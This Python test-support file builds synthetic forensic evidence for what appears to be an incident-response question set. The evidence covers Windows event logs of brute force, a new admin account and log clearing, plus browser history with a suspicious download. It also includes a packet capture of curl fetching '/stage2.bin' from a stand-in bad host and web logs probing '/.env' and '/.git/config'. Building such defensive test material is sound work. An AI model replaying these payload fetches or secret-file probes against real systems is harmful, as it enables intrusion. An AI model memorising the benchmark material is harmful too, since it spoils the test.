"""Evidence that is not text, for the questions of ``open_varied.toml`` and ``held_varied.toml``."""

from __future__ import annotations

from collections.abc import Callable

from tests.support import host_files as made
from tests.support.bundles import failures, logon, windows
from tests.support.captures import capture, conversation, question
from tests.support.collections import zipped


def _windows() -> bytes:
    created = {
        "TargetUserName": "svc_print", "TargetDomainName": "CORP", "SubjectUserName": "mgraf",
        "SubjectDomainName": "CORP", "TargetSid": "S-1-5-21-1-2-3-1200",
    }  # fmt: skip
    added = {
        "MemberName": "CN=svc_print,CN=Users,DC=corp", "MemberSid": "S-1-5-21-1-2-3-1200",
        "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "SubjectUserName": "mgraf",
        "SubjectDomainName": "CORP",
    }  # fmt: skip
    return windows(
        *failures("mgraf", "203.0.113.62", 12),
        *failures("ida", "203.0.113.80", 4),
        (4624, "09:30:00", logon("mgraf", "198.51.100.14", kind="10")),
        (4720, "09:34:00", created),
        (4732, "09:35:00", added),
        (1102, "09:50:00", {"SubjectUserName": "mgraf", "SubjectDomainName": "CORP"}),
    )


def _chrome() -> bytes:
    visits = [
        ("https://intranet.corp.example/", "Intranet", "2026-11-23 08:00:00"),
        ("https://bank.example/login", "Bank", "2026-11-23 08:40:00"),
        ("https://cdn.drop.example/get", "Setup", "2026-11-23 09:20:00"),
    ]
    target = r"C:\Users\mia\Downloads\setup_x.exe"
    return made.chrome(visits, [(target, "https://cdn.drop.example/setup_x.exe", "2026-11-23 09:21:00", 0)])


def _capture() -> bytes:
    name = "dl.badhost.example"
    request = b"GET /stage2.bin HTTP/1.1\r\nHost: dl.badhost.example\r\nUser-Agent: curl/8.0\r\n\r\n"
    reply = b"HTTP/1.1 200 OK\r\nContent-Length: 2000\r\nContent-Type: application/octet-stream\r\n\r\n" + b"A" * 2000
    frames = question(name, missing=False) + conversation([(">", request), ("<", reply)], at=1_763_600_002.0)
    return capture(frames)


def _archive() -> bytes:
    auth = "".join(
        f"Nov 23 03:{number:02}:05 web-9 sshd[91]: Failed password for toni from 203.0.113.79 port 40022 ssh2\n"
        for number in range(12)
    )
    auth += "Nov 23 03:30:05 web-9 sshd[99]: Accepted password for toni from 203.0.113.79 port 40100 ssh2\n"
    web = "".join(
        f'203.0.113.79 - - [23/Nov/2026:02:{number:02}:00 +0000] "GET {path} HTTP/1.1" 404 120 "-" "python-requests"\n'
        for number, path in enumerate(("/.env", "/wp-login.php", "/xmlrpc.php", "/.git/config"))
    )
    web += '198.51.100.20 - - [23/Nov/2026:08:00:00 +0000] "GET /index.html HTTP/1.1" 200 900 "-" "Mozilla/5.0"\n'
    return zipped([("auth.log", auth.encode()), ("access.log", web.encode()), ("memory.raw", bytes(range(256)) * 40)])


MADE: dict[str, Callable[[], bytes]] = {
    "varied_windows": _windows, "varied_chrome": _chrome, "varied_capture": _capture, "varied_archive": _archive,
}  # fmt: skip
